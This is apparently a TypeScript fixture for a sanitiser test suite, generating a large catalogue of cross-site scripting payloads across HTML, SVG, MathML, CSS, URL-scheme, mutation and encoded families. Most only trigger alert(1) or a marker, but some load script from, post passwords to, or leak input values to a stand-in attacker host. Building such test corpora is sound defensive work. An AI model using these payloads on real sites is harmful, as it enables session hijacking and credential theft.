/**
 * XSS vectors for the sink matrix (src/testing/xss.test.tsx) and the browser journeys
 * (e2e/xss.spec.ts): at least 250 distinct strings, grouped by family. Where a vector can run
 * script, it either calls `alert(1)` (or a close variant) or sets the marker `window.__xss`, so a
 * browser test can tell that it ran; jsdom runs nothing of this, so jest asserts on the DOM.
 * Families that are products (tags x handlers, schemes x carriers) are generated, each result
 * still a string a user or a server could send.
 */

export type XssFamily =
  | 'event-handler'
  | 'url-scheme'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'template-breakout'
  | 'css'
  | 'embedding'
  | 'entity-encoded';

export interface XssVector {
  family: XssFamily;
  vector: string;
}

/** What the marker variants run: a browser test asserts that `window.__xss` stays undefined. */
export const MARKER = 'window.__xss=1';
/** The two payloads most vectors come in: the classic alert and the marker. */
const PAYLOADS = ['alert(1)', MARKER] as const;

/* ---------- event handlers on many tags ---------- */

/** A tag that fires a handler without user action (or with the lightest one), `{h}` the handler's code. */
const SELF_FIRING: string[] = [
  '<img src=x onerror={h}>',
  '<img src="x" onerror="{h}">',
  "<img src='x' onerror='{h}'>",
  '<IMG SRC=x ONERROR={h}>',
  '<img/src=x/onerror={h}>',
  '<img src=x onerror\t={h}>',
  '<img src=x\nonerror={h}>',
  '<img src=x onerror=`{h}`>',
  '<image src=x onerror={h}>',
  '<svg onload={h}>',
  '<svg/onload={h}>',
  '<body onload={h}>',
  '<body onpageshow={h}>',
  '<input autofocus onfocus={h}>',
  '<input onblur={h} autofocus><input autofocus>',
  '<select autofocus onfocus={h}>',
  '<textarea autofocus onfocus={h}>',
  '<keygen autofocus onfocus={h}>',
  '<details open ontoggle={h}>',
  '<video src=x onerror={h}>',
  '<video><source onerror={h}>',
  '<audio src=x onerror={h}>',
  '<iframe onload={h}>',
  '<marquee onstart={h}>',
  '<object data=x onerror={h}>',
  '<embed src=x onerror={h}>',
  '<style onload={h}></style>',
  '<link rel=stylesheet href=x onerror={h}>',
  '<script src=x onerror={h}></script>',
  '<div style="animation-name:spin" onanimationstart={h}>',
  '<div contenteditable onfocus={h} autofocus>x</div>',
  '<input type=image src=x onerror={h}>',
  '<frameset onload={h}>',
  '<table background=x onerror={h}>',
];

/** Handlers that need an interaction, on an element that covers the page. */
const INTERACTIVE_HANDLERS = [
  'onclick', 'onmouseover', 'onmouseenter', 'onmousemove', 'onpointerover', 'onpointerenter', 'onpointerdown',
  'onfocusin', 'onkeydown', 'onwheel', 'oncopy', 'ontouchstart', 'oncontextmenu', 'ondblclick', 'onauxclick',
  'onbeforetoggle', 'ontransitionend', 'onscrollend',
];
const INTERACTIVE_TAGS = ['div', 'a', 'span', 'p', 'button'];

function eventHandlerVectors(): string[] {
  const out: string[] = [];
  for (const template of SELF_FIRING) for (const h of PAYLOADS) out.push(template.replaceAll('{h}', h));
  INTERACTIVE_HANDLERS.forEach((handler, i) => {
    const tag = INTERACTIVE_TAGS[i % INTERACTIVE_TAGS.length];
    out.push(`<${tag} ${handler}="${PAYLOADS[i % 2]}" style="position:fixed;inset:0">x</${tag}>`);
  });
  return out;
}

/* ---------- javascript:, data:, vbscript: URLs ---------- */

const SCHEMES: string[] = [
  'javascript:alert(1)',
  `javascript:${MARKER}`,
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  ' \u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '  javascript:alert(1)',
  'javascript\u0009:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript://%0aalert(1)',
  'javascript:void(0);alert(1)',
  "javascript:eval('al'+'ert(1)')",
  'javascript:alert`1`',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'DaTa:text/html,<script>window.__xss=1</script>',
  'vbscript:msgbox(1)',
  'VBScript:Execute("MsgBox 1")',
  'livescript:alert(1)',
  'mocha:alert(1)',
];

/** Elements that take a URL, `{u}` the URL. */
const URL_CARRIERS: string[] = [
  '<a href="{u}">click</a>',
  '<iframe src="{u}"></iframe>',
  '<form action="{u}"><button>go</button></form>',
  '<button form=f formaction="{u}">go</button>',
  '<object data="{u}"></object>',
  '<embed src="{u}">',
  '<area href="{u}">',
  '<svg><a xlink:href="{u}"><text y=20>click</text></a></svg>',
  '<math href="{u}">click</math>',
];

function urlVectors(): string[] {
  const out: string[] = [];
  // The bare URLs: what a URL field (a repo's remote URL, an app's website) would hold.
  out.push(...SCHEMES);
  // Every scheme in a link, and the strongest ones in every other carrier.
  for (const scheme of SCHEMES) out.push(URL_CARRIERS[0].replace('{u}', scheme));
  for (const carrier of URL_CARRIERS.slice(1)) for (const scheme of [SCHEMES[0], SCHEMES[3], SCHEMES[21]]) out.push(carrier.replace('{u}', scheme));
  return out;
}

/* ---------- SVG ---------- */

const SVG: string[] = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><script xlink:href="data:,window.__xss=1"></script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x to=1>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:window.__xss=1 /><text x=20 y=20>click</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>window.__xss=1</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=alert(1) /></svg>#x" /></svg>',
  '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x" /></svg>',
  '<svg><image href=x onerror=window.__xss=1 /></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  '<svg><style>@import "javascript:alert(1)";</style></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><img src=x onerror=window.__xss=1></title></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg><animatetransform onbegin=alert(1) attributeName=transform>',
  '<svg><feImage href="javascript:alert(1)" /></svg>',
  '<svg><iframe src="javascript:alert(1)"></iframe></svg>',
  '<svg onresize=alert(1)>',
  '<svg><svg onload=window.__xss=1>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
];

/* ---------- MathML ---------- */

const MATHML: string[] = [
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">click</maction></math>',
  '<math><maction actiontype=toggle onclick=window.__xss=1>click</maction></math>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg onload=window.__xss=1></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<math><semantics><annotation-xml encoding="text/html"><iframe srcdoc="<script>alert(1)</script>"></iframe></annotation-xml></semantics></math>',
  '<math><mtext><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
];

/* ---------- mutation XSS (parse, serialise, parse again differs) ---------- */

const MUTATION: string[] = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=window.__xss=1>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<title></title><img src=x onerror=window.__xss=1>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><iframe srcdoc="<script>alert(1)</script>"></select>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<a href="&#x0a;javascript:alert(1)">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ?><img src=x onerror=alert(1)>',
  '</p><img src=x onerror=alert(1)><p>',
  '<div id="1"><form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  '<a id=x tabindex=1 onfocus=alert(1)></a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<div><style><!--</style><img src=x onerror=alert(1)>--></style></div>',
  '<table><td><img src=x onerror=alert(1)></td></table>',
  '<table><style><img src=x onerror=alert(1)></style></table>',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  '<img src=x id=__proto__ name=__proto__ onerror=alert(1)>',
  '<form id=attributes><input name=onclick value=alert(1)></form>',
  '<img name=createElement><img name=body><img src=x onerror=alert(1)>',
];

/* ---------- template and JS-string breakouts ---------- */

const TEMPLATE: string[] = [
  '"><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=window.__xss=1>",
  '"></script><script>alert(1)</script>',
  '</script><script>window.__xss=1</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" onmouseover="window.__xss=1" x="',
  "'-alert(1)-'",
  '";alert(1);//',
  "\\';alert(1);//",
  '`;alert(1);`',
  '${alert(1)}',
  '${window.__xss=1}',
  '#{alert(1)}',
  '{{constructor.constructor(\'alert(1)\')()}}',
  "{{constructor.constructor('window.__xss=1')()}}",
  '{{$on.constructor(\'alert(1)\')()}}',
  '<%= alert(1) %>',
  '[[${alert(1)}]]',
  '{{7*7}}<img src=x onerror=alert(1)>',
  '<!--#exec cmd="alert(1)"-->',
  '\u2028alert(1)//',
  '</script><svg onload=alert(1)>',
  '"-alert(1)-"',
  "'}};alert(1);//",
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

/* ---------- CSS ---------- */

const CSS: string[] = [
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style>@import "javascript:alert(1)";</style>',
  "<style>@import url('data:text/css,*{x:expression(alert(1))}');</style>",
  '<style>body{behavior:url(x.htc)}</style>',
  '<style>body{-moz-binding:url("http://x/xss.xml#xss")}</style>',
  '<style>li{list-style-image:url("javascript:alert(1)")}</style>',
  '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="window.__xss=1"></div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="x:\\65 xpression(alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red" onmouseover="alert(1)">x</div>',
  '<p style="color:red;background:url(\'vbscript:msgbox(1)\')">x</p>',
  '<span style=\'font-family:"</style><script>alert(1)</script>"\'>x</span>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,body{background:url(javascript:alert(1))}">',
  '<style>input[value^="a"]{background:url(https://attacker.example/a)}</style>',
];

/* ---------- meta refresh, base, iframe srcdoc, form, object/embed, link import ---------- */

const EMBEDDING: string[] = [
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<base href="javascript:alert(1)//">',
  '<base href="https://attacker.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=window.__xss=1&gt;"></iframe>',
  '<iframe src="https://attacker.example/"></iframe>',
  '<frame src="javascript:alert(1)">',
  '<form action="https://attacker.example/"><input name=password type=password><button>Sign in</button></form>',
  '<form><button formaction="javascript:window.__xss=1">Save</button></form>',
  '<form id=f></form><input form=f type=submit formaction="javascript:alert(1)">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object type="text/x-scriptlet" data="https://attacker.example/x.sct"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>" type="image/svg+xml">',
  '<embed code="javascript:alert(1)">',
  '<applet code="javascript:alert(1)"></applet>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<link rel=preload as=script href="https://attacker.example/x.js">',
  '<script src="https://attacker.example/x.js"></script>',
  '<script>alert(1)</script>',
  '<script>window.__xss=1</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script/x>alert(1)</script>',
  '<script type=module>window.__xss=1</script>',
  '<portal src="https://attacker.example/"></portal>',
  '<a href="https://attacker.example/" target=_top ping="https://attacker.example/p">click</a>',
];

/* ---------- entity-, percent- and unicode-encoded variants ---------- */

const ENTITY: string[] = [
  '&lt;img src=x onerror=alert(1)&gt;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3C;svg onload=window.__xss=1&#x3E;',
  '&#0000060;script&#0000062;alert(1)&#0000060;/script&#0000062;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '\uFF1Cimg src=x onerror=alert(1)\uFF1E',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;">',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;alert(1)">x</a>',
  '<img src=x onerror=\\u0061lert(1)>',
  '<img src=x onerror=eval(atob(\'YWxlcnQoMSk=\'))>',
  '<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>',
  '<img src=x onerror=top[\'al\'+\'ert\'](1)>',
  '<img src=x onerror=window[\'__x\'+\'ss\']=1>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert&lpar;1&rpar;>',
];

function build(): XssVector[] {
  const groups: Array<[XssFamily, string[]]> = [
    ['event-handler', eventHandlerVectors()],
    ['url-scheme', urlVectors()],
    ['svg', SVG],
    ['mathml', MATHML],
    ['mutation', MUTATION],
    ['template-breakout', TEMPLATE],
    ['css', CSS],
    ['embedding', EMBEDDING],
    ['entity-encoded', ENTITY],
  ];
  const seen = new Set<string>();
  const out: XssVector[] = [];
  for (const [family, vectors] of groups) {
    for (const vector of vectors) {
      // A vector already listed under an earlier family stays there: every string is tested once.
      if (seen.has(vector)) continue;
      seen.add(vector);
      out.push({ family, vector });
    }
  }
  return out;
}

/** Every vector, each string once, in family order. */
export const XSS_VECTORS: readonly XssVector[] = build();

/** Just the strings. */
export const XSS_STRINGS: readonly string[] = XSS_VECTORS.map((v) => v.vector);

/** How many vectors each family has. */
export const XSS_FAMILY_COUNTS: Readonly<Record<XssFamily, number>> = XSS_VECTORS.reduce(
  (counts, { family }) => ({ ...counts, [family]: (counts[family] ?? 0) + 1 }),
  {} as Record<XssFamily, number>,
);

/**
 * A few strong vectors for the browser journeys: each would set the marker (or alert) at once if
 * it reached an HTML sink unescaped.
 */
export const STRONG_VECTORS: readonly string[] = [
  '<img src=x onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '"><img src=x onerror=alert(1)>',
  '<details open ontoggle=window.__xss=1>',
  '<iframe srcdoc="<script>window.__xss=1</script>">',
];
